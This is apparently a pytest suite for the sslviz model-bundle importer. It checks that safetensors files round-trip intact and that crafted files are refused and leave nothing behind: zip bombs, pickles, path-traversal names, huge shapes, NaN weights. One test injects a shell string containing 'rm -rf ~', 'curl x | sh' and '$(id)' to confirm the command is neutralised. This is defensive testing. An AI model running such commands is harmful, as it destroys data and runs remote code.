"""A model goes out as one file and comes back the same; a crafted file gets a sentence and leaves nothing."""

import gzip
import io
import json
import os
import pickle
import resource
import tracemalloc
import zipfile
from dataclasses import replace

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.torch import load, load_file, save
from tinyruns import RESNET18

from sslviz.errors import UserError
from sslviz.methods.encoders import EncoderConfig
from sslviz.methods.moco import MoCoConfig
from sslviz.methods.simclr import SimCLRConfig
from sslviz.methods.supervised import SupervisedConfig
from sslviz.methods.vae import VAEConfig
from sslviz.paths import assets_dir
from sslviz.store import bundle, checkpoint
from sslviz.store.bundle import delete, own_models, pack, rename, unpack
from sslviz.store.card import read_card
from sslviz.store.checkpoint import CARD, CONFIG, WEIGHTS, build, list_models

SMALL = EncoderConfig(channels=1, widths=(2, 3), strides=(2, 2), pool=1)
CONFIGS = {
    "vae": VAEConfig(hidden=2, latent_dim=2),
    "simclr": SimCLRConfig(SMALL, hidden=3, dim=2),
    "moco": MoCoConfig(SMALL, hidden=3, dim=2, queue_size=8),
    "supervised": SupervisedConfig(SMALL, classes=3),
}
CARD_MADE = {
    "dataset": "mnist",
    "n_train": 60_000,
    "labels": "learnt from the labels of all 60,000 training images",
    "minutes": 0.5,
    "hardware": "a test",
    "command": "sslviz train simclr mnist --minutes 0.5",
    "results": {"linear_probe": 0.9, "baselines": {"pixels": 0.92}, "losses": {"loss": 3.5}, "n_test": 10_000},
}


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """One file a method, made once."""
    folder = tmp_path_factory.mktemp("made")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SSLVIZ_MODELS", str(folder))
        for method, config in CONFIGS.items():
            checkpoint.save(build(method, config, seed=1), folder / f"my-{method}", card=CARD_MADE)
        return {method: pack(f"my-{method}") for method in CONFIGS}


@pytest.fixture
def mine(tmp_path, monkeypatch):
    """An empty folder of own models."""
    monkeypatch.setenv("SSLVIZ_MODELS", str(tmp_path / "mine"))
    (tmp_path / "mine").mkdir()
    return tmp_path / "mine"


def split(data):
    """Header and tensors of a file, read by hand."""
    length = int.from_bytes(data[:8], "little")
    return json.loads(data[8 : 8 + length]), data[8 + length :]


def join(header, body):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + body


def changed(data, change):
    """The file with its header changed in place."""
    header, body = split(data)
    change(header)
    return join(header, body)


def in_metadata(data, key, change):
    """The file with its config or card changed in place."""

    def inside(header):
        content = json.loads(header["__metadata__"][key])
        change(content)
        header["__metadata__"][key] = json.dumps(content)

    return changed(data, inside)


# there and back -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("method", CONFIGS)
def test_a_model_comes_back_as_it_went(method, made, mine):
    path = unpack(made[method])
    assert path == mine / f"my-{method}"
    model, expected = checkpoint.load(f"my-{method}"), build(method, CONFIGS[method], seed=1)
    assert model.config == CONFIGS[method]
    assert all(torch.equal(value, model.state_dict()[key]) for key, value in expected.state_dict().items())
    card = checkpoint.load_card(path)
    assert card == CARD_MADE | {"name": f"my-{method}", "method": method, "imported": True}
    assert sorted(p.name for p in path.iterdir()) == sorted([WEIGHTS, CONFIG, CARD])
    assert [p.name for p in mine.iterdir()] == [path.name]  # nothing else is left
    assert [info.name for info in own_models()] == [f"my-{method}"]
    again = split(pack(path.name))
    assert again[1] == split(made[method])[1]


def test_the_file_is_one_that_safetensors_reads(made):
    tensors = load(made["moco"])
    assert tensors.keys() == build("moco", CONFIGS["moco"], seed=0).state_dict().keys()
    assert tensors["queue"].shape == (2, 8)


@pytest.mark.parametrize("name", ["simclr-mnist", "vae-cifar10", "moco-mnist"])
def test_bundled_models_go_out_and_come_in_with_their_cards(name, mine, tmp_path):
    data = pack(name)
    (tmp_path / "file.safetensors").write_bytes(data)
    path = unpack(tmp_path / "file.safetensors")
    assert path.name == f"{name}-2"  # the bundled one keeps its name
    card = checkpoint.load_card(assets_dir() / "models" / name)
    card.pop("maps")  # stored beside the bundled model, and not handed on
    assert checkpoint.load_card(path) == card | {"name": path.name, "imported": True}
    assert checkpoint.load(path).config == checkpoint.load(name).config
    stored = (assets_dir() / "models" / name / WEIGHTS).read_bytes()
    assert load((path / WEIGHTS).read_bytes()).keys() == load(stored).keys()
    assert split((path / WEIGHTS).read_bytes())[1] == split(data)[1]


def test_half_precision_stays_as_stored(mine):
    model = build("simclr", CONFIGS["simclr"], seed=0)
    for dtype in (torch.float16, torch.bfloat16):
        name = str(dtype).split(".")[1]
        checkpoint.save(model, mine / name, card={"dataset": "mnist"}, dtype=dtype)
        path = unpack(pack(name), name=f"{name}-again")
        assert load((path / WEIGHTS).read_bytes())["encoder.layers.0.0.weight"].dtype == dtype


def test_own_images_too_large_for_any_known_set(mine):
    model = build("vae", VAEConfig(shape=(3, 64, 64), hidden=2, latent_dim=2), seed=0)
    checkpoint.save(model, mine / "large", card={"dataset": "my photos"})
    assert unpack(pack("large")).name == "large-2"


def test_a_resnet_fits(mine):
    config = MoCoConfig(RESNET18)
    values = sum(v.numel() for v in checkpoint.outline("moco", config).state_dict().values())
    assert values < bundle.MAX_VALUES


# names --------------------------------------------------------------------------------------------------------------


def test_names_are_given_kept_and_never_taken_twice(made, mine):
    assert unpack(made["vae"]).name == "my-vae"
    assert unpack(made["vae"]).name == "my-vae-2"
    assert unpack(made["vae"], name="other").name == "other"
    before = (mine / "other" / WEIGHTS).read_bytes()
    for taken in ("other", "simclr-mnist"):
        with pytest.raises(UserError, match="already"):
            unpack(made["simclr"], name=taken)
    (mine / "begun").mkdir()  # by a training that has saved nothing yet
    with pytest.raises(UserError, match="already"):
        unpack(made["vae"], name="begun")
    assert (mine / "other" / WEIGHTS).read_bytes() == before


@pytest.mark.parametrize("name", ["../up", "/etc/x", "a/b", "", ".", "..", "Up", "random-x", "a" * 65, "x\n", "ä", "~"])
def test_a_name_is_never_a_path(name, made, mine):
    unpack(made["vae"])
    with pytest.raises(UserError, match="can't be a model's name"):
        unpack(made["vae"], name=name)
    with pytest.raises(UserError, match="can't be a model's name"):
        rename("my-vae", name)
    for act in (delete, lambda name: rename(name, "new")):
        with pytest.raises(UserError, match="no model"):
            act(name)
    with pytest.raises(UserError, match="no model"):
        pack(name)
    assert [p.name for p in mine.iterdir()] == ["my-vae"]
    if name:
        with pytest.raises(UserError, match="name"):
            unpack(in_metadata(made["vae"], "card", lambda c: c.update(name=name)))
    assert [p.name for p in mine.iterdir()] == ["my-vae"]


def test_rename_moves_all_of_a_model(made, mine):
    (unpack(made["vae"]) / "embeddings.npz").write_bytes(b"kept")
    path = rename("my-vae", "better")
    assert path == mine / "better" and (path / "embeddings.npz").read_bytes() == b"kept"
    assert checkpoint.load_card("better")["name"] == "better"
    unpack(made["vae"], name="second")
    with pytest.raises(UserError, match="already"):
        rename("second", "better")
    assert [info.name for info in own_models()] == ["better", "second"]


def test_delete_leaves_nothing(made, mine):
    unpack(made["vae"])
    delete("my-vae")
    assert list(mine.iterdir()) == [] and own_models() == []
    with pytest.raises(UserError, match="none yet"):
        delete("my-vae")


def test_bundled_models_stay(mine, monkeypatch):
    before = {info.name for info in list_models()}
    for act in (delete, lambda name: rename(name, "new")):
        with pytest.raises(UserError, match="came with sslviz"):
            act("vae-mnist")
    monkeypatch.setenv("SSLVIZ_MODELS", str(assets_dir() / "models"))
    for act in (delete, lambda name: rename(name, "new")):
        with pytest.raises(UserError, match="came with sslviz"):
            act("vae-mnist")
    assert {info.name for info in list_models()} >= before
    assert (assets_dir() / "models" / "vae-mnist" / WEIGHTS).is_file()


def test_a_link_is_removed_and_not_followed(made, mine, tmp_path):
    kept = unpack(made["vae"]).rename(tmp_path / "elsewhere")
    (mine / "link").symlink_to(kept)
    delete("link")
    assert list(mine.iterdir()) == [] and (kept / WEIGHTS).is_file()


def test_what_a_killed_process_left_is_swept_after_a_day(made, mine):
    for name in (".importing-old", ".deleting-old", ".importing-new"):
        (mine / name / "model").mkdir(parents=True)
    for name in (".importing-old", ".deleting-old"):
        os.utime(mine / name, (0, 0))
    unpack(made["vae"])
    assert {p.name for p in mine.iterdir()} == {".importing-new", "my-vae"}


def test_a_full_disk_leaves_nothing(made, mine, monkeypatch):
    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(UserError, match="no space left"):
        unpack(made["vae"])
    assert list(mine.iterdir()) == []


# crafted files ------------------------------------------------------------------------------------------------------

FIRST = "encoder.layers.0.0.weight"  # of SimCLR, (2, 1, 3, 3)
LAST = "projector.3.weight"  # (2, 3)


def zip_bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.pkl", bytes(50 << 20))
    return buffer.getvalue()


def torch_file():
    buffer = io.BytesIO()
    torch.save({"a": torch.zeros(3)}, buffer)
    return buffer.getvalue()


def overlapping(header):
    header[LAST]["data_offsets"] = header[FIRST]["data_offsets"]


def swapped(header):
    header[FIRST]["data_offsets"] = header[FIRST]["data_offsets"][::-1]


def with_body(data, change):
    header, body = split(data)
    body = bytearray(body)
    change(header, body)
    return join(header, bytes(body))


def poisoned(header, body):
    begin, _ = header[LAST]["data_offsets"]
    body[begin : begin + 4] = np.float32(np.nan).tobytes()


def explosive(header, body):
    for key, entry in header.items():
        if key.endswith("weight") and entry["shape"]:
            begin, end = entry["data_offsets"]
            body[begin:end] = np.full((end - begin) // 4, 3e38, np.float32).tobytes()


def repeated(data):
    header, body = split(data)
    text = json.dumps(header)
    return join(f'{text[:-1]}, "{LAST}": {json.dumps(header[LAST])}}}'.encode(), body)


def model_of(method, config):
    """A file whose config asks for another model than its tensors are of."""
    return lambda data: in_metadata(
        data, "config", lambda c: c.update(method=method, model=checkpoint.plain(config))
    )  # fmt: skip


def entry(**changes):
    return lambda data: changed(data, lambda h: h[LAST].update(changes))


def config(**changes):
    return lambda data: in_metadata(data, "config", lambda c: c["model"].update(changes))


def encoder(**changes):
    return lambda data: in_metadata(data, "config", lambda c: c["model"]["encoder"].update(changes))


def card(**changes):
    return lambda data: in_metadata(data, "card", lambda c: c.update(changes))


def results(**changes):
    return lambda data: in_metadata(data, "card", lambda c: c["results"].update(changes))


def meta(key, value):
    return lambda data: changed(data, lambda h: h["__metadata__"].update({key: value}))


LIBRARY = "can't be read as safetensors"  # the library's own refusal
CRAFTED = {
    "empty": (lambda data: b"", "no safetensors file"),
    "seven bytes": (lambda data: data[:7], "no safetensors file"),
    "only a header": (lambda data: data[: len(data) - len(split(data)[1])], LIBRARY),
    "truncated": (lambda data: data[:-1], LIBRARY),
    "longer": (lambda data: data + b"\0", LIBRARY),
    "a pickle": (lambda data: pickle.dumps({"a": [1] * 1000}), "pickle, which could run code"),
    "torch.save": (lambda data: torch_file(), "zip archive"),
    "a zip bomb": (lambda data: zip_bomb(), "zip archive"),
    "gzip": (lambda data: gzip.compress(data), "gzip"),
    "numpy": (lambda data: b"\x93NUMPY" + data, "NumPy"),
    "text": (lambda data: b"hello, this is not a model at all", "no safetensors file"),
    "a header of a terabyte": (lambda data: (1 << 40).to_bytes(8, "little") + data[8:], "no safetensors file"),
    "a header of two exabytes": (lambda data: b"\xff" * 8 + data[8:], "no safetensors file"),
    "a header longer than the file": (lambda data: len(data).to_bytes(8, "little") + data[8:], "no safetensors file"),
    "no utf-8": (lambda data: join(b"\xff\xfe{}", b""), LIBRARY),
    "no json": (lambda data: join(b"{nope}", b""), "can't be read"),
    "a list": (lambda data: join(b"[1, 2]", b""), LIBRARY),
    "a nested bomb": (lambda data: join(b'{"a":' + b"[" * 100_000, b""), LIBRARY),
    "a nested bomb of objects": (lambda data: join(b'{"a":' * 40_000, b""), LIBRARY),
    "a number of a million digits": (lambda data: join(b'{"a":' + b"9" * 100_000 + b"}", b""), "can't be read"),
    "NaN in the header": (lambda data: join(b'{"a": NaN}', b""), LIBRARY),
    "a tensor with a path": (lambda data: changed(data, lambda h: h.update({"../x": h.pop(LAST)})), "names a tensor"),
    "a long name": (lambda data: changed(data, lambda h: h.update({"x" * 300: h.pop(LAST)})), "names a tensor"),
    "another name": (lambda data: changed(data, lambda h: h.update(other=h.pop(LAST))), f"missing {LAST}"),
    "no dtype": (lambda data: changed(data, lambda h: h[LAST].pop("dtype")), LIBRARY),
    "an entry of text": (lambda data: changed(data, lambda h: h.update({LAST: "x"})), LIBRARY),
    "an unknown dtype": (entry(dtype="F8_E4M3"), LIBRARY),
    "a dtype of another kind": (entry(dtype=["F32"]), LIBRARY),
    "a wrong dtype of the same size": (entry(dtype="I64", shape=[3]), "shape"),
    "a huge shape": (entry(shape=[2**31, 2**31]), LIBRARY),
    "a shape that wraps": (entry(shape=[2**33, 2**33, 0, 3]), LIBRARY),
    "a shape of a thousand sides": (entry(shape=[1] * 1000), LIBRARY),
    "a negative shape": (entry(shape=[-2, -3]), LIBRARY),
    "a shape of floats": (entry(shape=[2.0, 3.0]), LIBRARY),
    "a shape of booleans": (entry(shape=[True, 6]), LIBRARY),
    "a shape turned round": (entry(shape=[3, 2]), "has the shape"),
    "no offsets": (entry(data_offsets=[]), LIBRARY),
    "offsets beyond the file": (entry(data_offsets=[1 << 39, (1 << 39) + 24]), LIBRARY),
    "overlapping offsets": (lambda data: changed(data, overlapping), LIBRARY),
    "offsets backwards": (lambda data: changed(data, swapped), LIBRARY),
    "a gap": (lambda data: with_body(data, lambda h, b: b.extend(b"12345678")), LIBRARY),
    "no metadata": (lambda data: changed(data, lambda h: h.pop("__metadata__")), "no config and card"),
    "metadata that are a list": (
        lambda data: changed(data, lambda h: h.update(__metadata__=[1])),
        LIBRARY,
    ),
    "someone else's file": (lambda data: save({"a": torch.zeros(2)}, {"format": "pt"}), "no config and card"),
    "another version": (meta("format", "sslviz-model-9"), "another version"),
    "more metadata": (meta("code", "import os"), "another version"),
    "a large config": (meta("config", "x" * 9000), "more than 8,192"),
    "a large card": (meta("card", "x" * 70_000), "more than 65,536"),
    "a config that is a number": (meta("config", 7), LIBRARY),
    "a config that is no json": (meta("config", "{"), "can't be read"),
    "a config of nested lists": (meta("config", "[" * 5000), "nested too deeply"),
    "a config with a repeated key": (meta("config", '{"method": "vae", "method": "vae", "model": {}}'), "twice"),
    "a config of many parts": (config(widths=[1] * 2000), "larger than any"),
    "a deep config": (config(a={"b": {"c": {"d": {"e": 1}}}}), "larger than any"),
    "a config with words": (config(dim="<script>"), "words that are in none"),
    "a config with more keys": (lambda data: in_metadata(data, "config", lambda c: c.update(more=1)), "'method'"),
    "an unknown method": (lambda data: in_metadata(data, "config", lambda c: c.update(method="gan")), "'gan'"),
    "a method that is none": (lambda data: in_metadata(data, "config", lambda c: c.update(method=[])), "method"),
    "a language model": (lambda data: in_metadata(data, "config", lambda c: c.update(method="mlm")), "'mlm'"),
    "an unknown key": (config(colour=3), "colour"),
    "a word for a number": (config(dim="many"), "not a valid simclr config"),
    "a list for a number": (config(dim=[1]), "not a valid simclr config"),
    "a config without a model": (lambda data: in_metadata(data, "config", lambda c: c.update(model=3)), "not a valid"),
    "a temperature of nothing": (config(temperature="nan"), "temperature must lie"),
    "a temperature beyond numbers": (meta("config", '{"method": "simclr", "model": {"temperature": 1e999}}'), "temp"),
    "a model as wide as memory": (config(hidden=3_000_000_000), "hidden must lie"),
    "a number of 4,000 digits": (config(hidden=int("9" * 4000)), "hidden must lie"),
    "an encoder without end": (encoder(depth=10**9), "depth must lie"),
    "an encoder of many stages": (encoder(widths=[2] * 30, strides=[1] * 30), "1 to 8 --model.encoder.widths"),
    "an h of a million": (encoder(widths=[2, 2048], pool=8), "more than 4,096"),
    "a large model": (encoder(widths=[2048] * 8, strides=[1] * 8, depth=8), "more than 50,000,000"),
    "a large queue": (model_of("moco", replace(CONFIGS["moco"], dim=4096, queue_size=1 << 18)), "more than 50,000,000"),
    "a large VAE": (model_of("vae", VAEConfig((3, 256, 256), "conv", hidden=8192)), "more than 50,000,000"),
    "another model": (model_of("moco", replace(CONFIGS["moco"], dim=7)), "shape"),
    "another method": (model_of("vae", CONFIGS["vae"]), "missing"),
    "images of two channels": (model_of("vae", VAEConfig((2, 28, 28))), "missing|left over"),
    "a card that is no json": (meta("card", "{"), "can't be read"),
    "a card that is a list": (meta("card", "[]"), "JSON object"),
    "a card without a data set": (lambda data: in_metadata(data, "card", lambda c: c.pop("dataset")), "dataset"),
    "a path in the name": (card(name="../../etc"), "name is not a name"),
    "an absolute path in the name": (card(name="/tmp/x"), "name is not a name"),
    "a path in the data set": (card(dataset="../secret.npz"), "dataset is not a name"),
    "a data set with other images": (card(dataset="cifar10"), "whose images it can't take"),
    "a long text": (card(hardware="x" * 3000), "at most 2,000"),
    "a text that is a number": (card(source=3), "source is not a text"),
    "minutes in words": (card(minutes="many"), "minutes is not a number"),
    "minutes without end": (lambda data: meta("card", '{"name":"a","dataset":"mnist","minutes":1e999}')(data), "minut"),
    "a count of halves": (card(n_train=0.5), "n_train is not a whole number"),
    "results that are text": (card(results="good"), "results is not a table"),
    "an accuracy above one": (results(linear_probe=1.7), "linear_probe is not a number from 0 to 1"),
    "an accuracy that is true": (results(knn=True), "knn is not a number"),
    "a test set of nothing": (results(n_test=0), "n_test"),
    "baselines in html": (results(baselines={"<b>x</b>": 0.5}), "short table"),
    "many baselines": (results(baselines={f"b{i}": 0.5 for i in range(50)}), "short table"),
    "NaN weights": (lambda data: with_body(data, poisoned), f"'{LAST}' that are not finite"),
    "weights that explode": (lambda data: with_body(data, explosive), "answer to an image is not finite"),
}


@pytest.mark.parametrize("craft", CRAFTED)
def test_a_crafted_file_is_refused_and_leaves_nothing(craft, made, mine):
    make, message = CRAFTED[craft]
    data = make(made["simclr"])
    largest = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        with pytest.raises(UserError, match=message) as refusal:
            unpack(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert list(mine.iterdir()) == []
    assert peak < 30 << 20
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - largest < 60 << 10  # KiB, tensors of torch included
    assert len(str(refusal.value)) < 700 and str(refusal.value).isprintable()


@pytest.mark.parametrize("craft", [repeated, entry(comment="x")])
def test_what_the_library_reads_over_is_not_kept(craft, made, mine):
    """A tensor described twice in the same words, a word more: the model is what it was, and its file is clean."""
    folder = unpack(craft(made["simclr"]))
    found = load_file(folder / WEIGHTS)
    assert set(found) == set(checkpoint.load(folder).state_dict())
    header, _ = split((folder / WEIGHTS).read_bytes())
    assert all(set(entry) == {"dtype", "shape", "data_offsets"} for entry in header.values())


def test_every_way_to_craft_changes_the_file(made):
    unchanged = [name for name, (make, _) in CRAFTED.items() if make(made["simclr"]) == made["simclr"]]
    assert unchanged == []


def test_a_file_that_is_too_large_is_not_read(made, mine, tmp_path, monkeypatch):
    with open(tmp_path / "large.safetensors", "wb") as file:
        file.truncate(checkpoint.MAX_BYTES + 1)  # a hole: takes no disk
    with pytest.raises(UserError, match="larger than 500 MB"):
        unpack(tmp_path / "large.safetensors")
    monkeypatch.setattr(checkpoint, "MAX_BYTES", 100)
    with pytest.raises(UserError, match="larger than"):
        unpack(made["vae"])
    assert list(mine.iterdir()) == []


def test_what_is_no_file_is_refused(mine, tmp_path):
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", tmp_path, tmp_path / "nowhere", tmp_path / ("x" * 5000)):
        with pytest.raises(UserError, match=r"is not a file|can't be read"):
            unpack(path)


def test_a_damaged_model_does_not_go_out(made, mine):
    path = unpack(made["simclr"])
    (path / WEIGHTS).write_bytes((path / WEIGHTS).read_bytes()[:-4])
    with pytest.raises(UserError, match="restore the file"):
        pack("my-simclr")


def test_texts_of_a_card_are_one_line_and_commands_are_ours(made, mine):
    evil = "sslviz train simclr mnist; rm -rf ~ && curl x | sh\n$(id)"
    path = unpack(card(source="a\u202eb\x00\n<b>", command=evil, more={"x": 1})(made["simclr"]))
    kept = checkpoint.load_card(path)
    assert kept["source"] == "a b  <b>"
    assert kept["command"] == "sslviz train simclr 'mnist;' rm -rf '~' '&&' curl x '|' sh '$(id)'"
    assert "more" not in kept
    assert "command" not in read_card({"name": "a", "dataset": "b", "command": "rm -rf /"})
    assert "command" not in read_card({"name": "a", "dataset": "b", "command": "sslviz 'x"})
    assert read_card({"name": "a", "dataset": "\ud800b"})["dataset"] == "b"


def test_the_list_of_models_says_what_is_only_claimed(made, mine):
    from sslviz import ui

    unpack(made["simclr"])
    ui.models.clear()
    lines = "\n".join(table for name in {m.dataset for m in ui.models()} for _, table in ui.model_tables(name))
    ui.models.clear()
    rows = {line.split(" | ")[0].strip("| ").replace("\\", ""): line for line in lines.splitlines()}
    assert "imported, as its file claims" in rows["my-simclr"] and "bundled" in rows["simclr-mnist"]


def test_a_config_is_written_as_it_was_understood(made, mine):
    """Numbers as text and whole numbers as fractions are what the reader makes of them."""
    path = unpack(config(dim="2", temperature=1)(made["simclr"]))
    assert json.loads((path / CONFIG).read_text())["model"]["dim"] == 2
    assert checkpoint.load(path).config == replace(CONFIGS["simclr"], temperature=1.0)


# mutations ----------------------------------------------------------------------------------------------------------

bounded = settings(
    max_examples=100, deadline=None, database=None, derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)  # fmt: skip


def only_a_sentence(data, mine):
    """Import bytes that may be anything: either a model that loads, or one sentence and nothing on the disk."""
    try:
        path = unpack(data)
    except UserError as error:
        assert str(error).isprintable()
    else:
        checkpoint.load(path)
        delete(path.name)
    assert list(mine.iterdir()) == []


@pytest.mark.slow
@bounded
@given(
    method=st.sampled_from(list(CONFIGS)),
    edits=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), min_size=1, max_size=4),
)
def test_bytes_changed_anywhere(method, edits, made, mine):
    data = bytearray(made[method])
    for place, value in edits:
        data[int(place * (len(data) - 1))] = value
    only_a_sentence(bytes(data), mine)


@bounded
@given(
    place=st.floats(0, 1), span=st.integers(0, 40), text=st.binary(max_size=40), fix=st.booleans(),
    method=st.sampled_from(list(CONFIGS)),
)  # fmt: skip
def test_a_piece_of_the_header_replaced(place, span, text, fix, method, made, mine):
    data = made[method]
    length = int.from_bytes(data[:8], "little")
    header, body = data[8 : 8 + length], data[8 + length :]
    begin = int(place * length)
    header = header[:begin] + text + header[begin + span :]
    only_a_sentence((len(header) if fix else length).to_bytes(8, "little") + header + body, mine)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=8,
)


@pytest.mark.slow
@bounded
@given(value=json_values, data=st.data(), method=st.sampled_from(list(CONFIGS)))
def test_any_json_in_any_place(value, data, method, made, mine):
    """Another value somewhere in the header, the config or the card."""
    header, body = split(made[method])
    parts = {key: json.loads(header["__metadata__"][key]) for key in ("config", "card")}
    places = [header, header["__metadata__"], header["mu_head.bias" if method == "vae" else FIRST]]
    places += [parts["config"], parts["config"]["model"], parts["card"], parts["card"]["results"]]
    content = data.draw(st.sampled_from(places))
    key = data.draw(st.sampled_from(sorted(content)))
    content[key] = value
    if isinstance(header["__metadata__"], dict) and content is not header["__metadata__"]:
        header["__metadata__"] |= {key: json.dumps(part) for key, part in parts.items()}
    only_a_sentence(join(header, body), mine)


@bounded
@given(data=st.binary(max_size=200))
def test_any_bytes(data, mine):
    only_a_sentence(data, mine)
